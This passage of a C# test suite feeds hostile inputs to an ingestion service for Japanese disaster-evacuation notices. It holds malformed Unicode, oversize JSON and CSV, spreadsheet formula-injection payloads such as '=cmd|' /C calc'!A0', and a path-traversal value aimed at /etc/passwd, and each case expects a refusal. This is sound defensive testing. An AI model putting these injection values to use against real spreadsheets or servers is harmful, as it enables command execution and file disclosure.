            new("$type, $id and $ref metadata", B(Evac("meta").Replace("\"envelope\": {", "\"$id\": \"1\", \"$type\": \"x\", \"envelope\": {\"$ref\": \"1\",", StringComparison.Ordinal)), type) { Expect = Expectation.Status(400, "notice.json") },
            new("control character (escaped U+0001) in issuerName", B(Evac("ctl").Replace("\"熊本市\"", "\"熊本市\\u0001\"", StringComparison.Ordinal)), type),
            new("NUL (escaped) in a district name", B(Evac("nul").Replace("\"出水一丁目\"", "\"出水\\u0000一丁目\"", StringComparison.Ordinal)), type),
            new("ESC sequence (escaped) in a general title", B(Title("\"\\u001b[31m給水\\u001b[0m\"")), type),
            new("U+FFFE (escaped) in a general title", B(Title("\"給水\\ufffe\"")), type),
            new("U+FFFF and U+0085 (escaped) in the text", B(Json("general", Samples.Unique("ctl")).Replace("\"断水地域", "\"\\uffff\\u0085断水地域", StringComparison.Ordinal)), type),
            new("lone high surrogate (escaped) in a general title", B(Title("\"給水\\ud800\"")), type) { Expect = Expectation.Refused() },
            new("reversed surrogate pair (escaped) in a district name", B(Evac("sur").Replace("\"出水一丁目\"", "\"出水\\udc00\\ud800\"", StringComparison.Ordinal)), type) { Expect = Expectation.Refused() },
            new("lone surrogate as raw bytes (ED A0 80) in a title", Marked(Title("\"給水MARK\""), [0xED, 0xA0, 0x80]), type) { Expect = Expectation.Status(400, "notice.json") },
            new("raw control character U+0001 in a string", B(Title("\"給水\u0001\"")), type) { Expect = Expectation.Status(400, "notice.json") },
            new("invalid UTF-8 byte (FF) in a string", Marked(Title("\"給水MARK\""), [0xFF]), type) { Expect = Expectation.Status(400, "notice.json") },
            new("overlong UTF-8 for '<' (C0 BC) in a string", Marked(Title("\"給水MARK\""), [0xC0, 0xBC]), type) { Expect = Expectation.Status(400, "notice.json") },
            new("comments", B("// notice\n" + Evac("syntax")), type) { Expect = Expectation.Status(400, "notice.json") },
            new("trailing comma", B(Evac("syntax").Replace("\"revision\": 1,", "\"revision\": 1,,", StringComparison.Ordinal)), type) { Expect = Expectation.Status(400, "notice.json") },
            new("NaN", B(Envelope(Evac("syntax"), "revision", "NaN")), type) { Expect = Expectation.Status(400, "notice.json") },
            new("Infinity", B(Envelope(Evac("syntax"), "revision", "Infinity")), type) { Expect = Expectation.Status(400, "notice.json") },
            new("single quotes", B(Evac("syntax").Replace("\"mode\": \"actual\"", "'mode': 'actual'", StringComparison.Ordinal)), type) { Expect = Expectation.Status(400, "notice.json") },
            new("900 KB title", B(Title(Mutations.JsonString(new string('t', 900_000)))), type) { Check = Within(10) },
            new("900 KB issuerName", B(Evac("name").Replace("\"熊本市\"", Mutations.JsonString(new string('熊', 300_000)), StringComparison.Ordinal)), type) { Check = Within(10) },
            new("2,000 districts by area code", B(Districts("many", 2_000, "{\"areaCode\": \"431010\", \"level\": \"3\", \"disasterType\": \"landslide\"}")), type) { Check = Within(15) },
            new("5,000 districts by town name", B(Districts("towns", 5_000, "{\"name\": \"出水一丁目\", \"level\": \"4\", \"disasterType\": \"flood\"}")), type) { Check = Within(15) },
            new("10,000 unknown town names", B(Districts("unknown", 10_000, "{\"name\": \"存在しない町\", \"level\": \"4\", \"disasterType\": \"flood\"}")), type) { Expect = Expectation.Refused(), Check = Within(15) },
            new("1,000 districts drawn as polygons", B(Districts("polys", 1_000, $"{{\"name\": \"p\", \"polygon\": \"{Ring(8, 32.79, 130.72, 0.005)}\", \"level\": \"5\", \"disasterType\": \"flood\"}}")), type) { Check = Within(15) },
            new("1,000 shelters placed by address", B(Json("shelters", Samples.Unique("addr")).Split("\"shelters\": [")[0] + "\"shelters\": [" + string.Join(",", Enumerable.Range(0, 1_000).Select(i =>
                $"{{\"name\": \"避難所{i}\", \"address\": \"熊本市中央区出水{1 + i % 8}丁目\", \"status\": \"open\", \"hazards\": []}}")) + "]}}"), type) { Check = Within(15) },
            new("general notice with 2 MiB of places", B(general.Replace("\"places\": [", "\"places\": [" + string.Concat(Enumerable.Repeat("{\"name\": \"x\"},", 150_000)), StringComparison.Ordinal)), type) { Expect = Expectation.Status(413, "request.too-large") },
        ];
    }

    // ---- CSV --------------------------------------------------------------------------------------------------------

    public const string DistrictsHeader = "地区名,地域コード,警戒レベル,災害種別,世帯数,人数,発令日時,解除日時\n";

    public static List<HostileCase> CsvAttacks()
    {
        string Q(string sheet = "evacuation-districts") => $"sheet={sheet}&documentId={Samples.Unique("csv")}";
        const string row = "中央区黒髪一丁目,431010,4,洪水,1520,3104,2026-07-01 03:00,\n";
        return
        [
            new("unbalanced quote never closed", B(DistrictsHeader + "\"中央区黒髪一丁目,431010,4,洪水,1520,3104,2026-07-01 03:00,\n" + row), "text/csv", Q()) { Expect = Expectation.Refused() },
            new("quote in the middle of a cell", B(DistrictsHeader + "中央区\"黒髪\"一丁目,431010,4,洪水,1520,3104,2026-07-01 03:00,\n"), "text/csv", Q()) { Expect = Expectation.Refused() },
            new("quote opened in the header", B("\"地区名,地域コード,警戒レベル,災害種別,世帯数,人数,発令日時,解除日時\n" + row), "text/csv", Q()) { Expect = Expectation.Refused() },
            new("quoted cell with 20,000 line breaks", B(DistrictsHeader + "\"" + new string('\n', 20_000) + "\",431010,4,洪水,1,1,2026-07-01 03:00,\n"), "text/csv", Q()) { Expect = Expectation.Refused(), Check = Within(10) },
            new("1,000,000 empty lines after the header", B(DistrictsHeader + new string('\n', 1_000_000)), "text/csv", Q()) { Expect = Expectation.Refused(), Check = Within(10) },
            new("500,000 rows of a lone comma (past the row limit)", B(DistrictsHeader + string.Concat(Enumerable.Repeat(",\n", 500_000))), "text/csv", Q()) { Expect = Expectation.Refused("csv.limit.rows"), Check = Within(10) },
            new("5,000 district rows", B(DistrictsHeader + string.Concat(Enumerable.Repeat("黒髪,431010,3,洪水,1,1,2026-07-01 03:00,\n", 5_000))), "text/csv", Q()) { Check = Within(15) },
            new("as many bad rows as 1 MiB holds", B(DistrictsHeader + string.Concat(Enumerable.Repeat("x,1,x,x,x,x,x,x\n", 60_000))), "text/csv", Q()) { Expect = Expectation.Refused(), Check = Within(10) },
            new("101 columns", B(string.Join(',', Enumerable.Range(0, 101).Select(i => $"c{i}")) + "\n"), "text/csv", Q()) { Expect = Expectation.Refused("csv.limit.cells") },
            new("a cell of 10,001 characters", B(DistrictsHeader + new string('x', 10_001) + ",431010,4,洪水,1,1,2026-07-01 03:00,\n"), "text/csv", Q()) { Expect = Expectation.Refused("csv.limit.cell-length") },
            new("a row of 100,000 cells", B(DistrictsHeader + new string(',', 100_000) + "\n"), "text/csv", Q()) { Expect = Expectation.Refused("csv.limit.cells") },
            new("control character U+0001 in a district name beside its code", B(DistrictsHeader + "黒髪\u0001,431010,4,洪水,1,1,2026-07-01 03:00,\n"), "text/csv", Q()),
            new("NUL in a district name beside its code", B(DistrictsHeader + "黒\0髪,431010,4,洪水,1,1,2026-07-01 03:00,\n"), "text/csv", Q()),
            new("ESC sequence in a lifeline area", B("種別,状況,影響世帯数,地域,復旧見込み,更新日時\n停電,停止,10,\u001b[2J熊本市,,2026-07-01 03:30\n"), "text/csv", Q("lifeline-status")),
            new("lone CR line ends", B((DistrictsHeader + row + row.Replace("黒髪", "白川", StringComparison.Ordinal)).Replace("\n", "\r", StringComparison.Ordinal)), "text/csv", Q()),
            new("header only", B(DistrictsHeader), "text/csv", Q()) { Expect = Expectation.Refused() },
            new("binary zeros", new byte[4096], "text/csv", Q()) { Expect = Expectation.Refused() },
            new("a shelter id starting with =", B("避難所ID,状況,避難者数,収容人数,更新日時\n=cmd|' /C calc'!A0,開設,1,2,2026-07-01 03:00\n"), "text/csv", Q("shelter-status")) { Expect = Expectation.Refused("csv.value.pattern") },
            new("a formula as a header", B("=cmd|' /C calc'!A0,状況,避難者数,収容人数,更新日時\nE4310000000101,開設,1,2,2026-07-01 03:00\n"), "text/csv", Q("shelter-status")) { Expect = Expectation.Refused() },
            new("sheet missing", B(DistrictsHeader + row), "text/csv", $"documentId={Samples.Unique("q")}") { Expect = Expectation.Status(400, "request.invalid") },
            new("documentId with a path", B(DistrictsHeader + row), "text/csv", "sheet=evacuation-districts&documentId=..%2F..%2Fetc%2Fpasswd") { Expect = Expectation.Status(400, "request.invalid") },
            new("revision 2147483648", B(DistrictsHeader + row), "text/csv", Q() + "&revision=2147483648") { Expect = Expectation.Status(400, "request.invalid") },
            new("kind 1 (a number for an enum)", B(DistrictsHeader + row), "text/csv", Q() + "&kind=1") { Expect = Expectation.Status(400, "request.invalid") },
            new("mode Actual,Test", B(DistrictsHeader + row), "text/csv", Q() + "&mode=Actual,Test") { Expect = Expectation.Status(400, "request.invalid") },
            new("a correction whose reason is a formula", B(DistrictsHeader + row), "text/csv", Q() + "&revision=2&kind=Correction&reason=%3Dcmd%7C%27%20%2FC%20calc%27%21A0") { Expect = Expectation.Refused() },
            new("a 100 KB query value", B(DistrictsHeader + row), "text/csv", Q() + "&reason=" + new string('r', 100_000)),
        ];
    }

    /// <summary>Values a spreadsheet would run as formulas, with the characters that start them.</summary>
    public static readonly string[] Formulas =
    [
        "=cmd|' /C calc'!A0", "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "=HYPERLINK(\"http://127.0.0.1/\",\"x\")",
        "\t=1+1", "=1+1\r", "＝1+1",
    ];

    // ---- helpers ----------------------------------------------------------------------------------------------------

    private static string Areas(string unique, int count, Func<int, string> area) =>
        System.Text.RegularExpressions.Regex.Replace(Cap(unique), "<area>.*</area>", string.Concat(Enumerable.Range(0, count).Select(area)), System.Text.RegularExpressions.RegexOptions.Singleline);

    /// <summary>A closed ring of <paramref name="points"/> points on a circle ("lat,lon …", first equal to last).</summary>
    public static string Ring(int points, double lat, double lng, double radius)
    {
        var ring = Enumerable.Range(0, points - 1).Select(i => 2 * Math.PI * i / (points - 1))
            .Select(a => string.Create(CultureInfo.InvariantCulture, $"{lat + radius * Math.Sin(a):F7},{lng + radius * Math.Cos(a):F7}")).ToList();
        ring.Add(ring[0]);
        return string.Join(' ', ring);
    }

    private static string Zigzag(int points)
    {
        var rng = new Random(20260701);
        var ring = Enumerable.Range(0, points - 1).Select(_ => string.Create(CultureInfo.InvariantCulture, $"{32.78 + rng.NextDouble() * 0.02:F6},{130.72 + rng.NextDouble() * 0.02:F6}")).ToList();
        ring.Add(ring[0]);
        return string.Join(' ', ring);
    }

    private static string Base36(int n)
    {
        const string digits = "0123456789abcdefghijklmnopqrstuvwxyz";
        var s = "";
        do { s = digits[n % 36] + s; n /= 36; } while (n > 0);
        return s;
    }

    /// <summary>The text in UTF-8 with the word MARK replaced by raw bytes.</summary>
    private static byte[] Marked(string text, byte[] bytes)
    {
        var at = text.IndexOf("MARK", StringComparison.Ordinal);
        return [.. B(text[..at]), .. bytes, .. B(text[(at + 4)..])];
    }

    private static byte[] RandomBytes(int count, int seed)
    {
        var bytes = new byte[count];
        new Random(seed).NextBytes(bytes);
        return bytes;
    }
}
